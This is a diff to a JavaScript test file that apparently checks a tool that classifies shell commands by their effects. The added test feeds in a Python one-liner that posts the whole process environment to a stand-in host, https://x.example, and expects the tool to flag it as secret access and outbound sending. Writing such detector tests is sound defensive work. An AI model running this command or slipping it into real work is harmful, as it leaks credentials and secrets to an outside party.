@@ -57,3 +57,10 @@ test.each([
 ])('names of variables %s', (_name, run, code, isShown) => {
   expect(run(code).includes(secret)).toBe(isShown)
 })
+
+test('a text of the environment is sent with it, however it is spelled', () => {
+  const sends = effectLines(
+    `python3 - <<'E'\nimport os, urllib.request\nurllib.request.urlopen('https://x.example', data=str(os.environ).encode())\nE`,
+  )
+  expect(sends).toEqual(['infra:secret environment', 'connect:post https://x.example', 'send:data https://x.example'])
+})
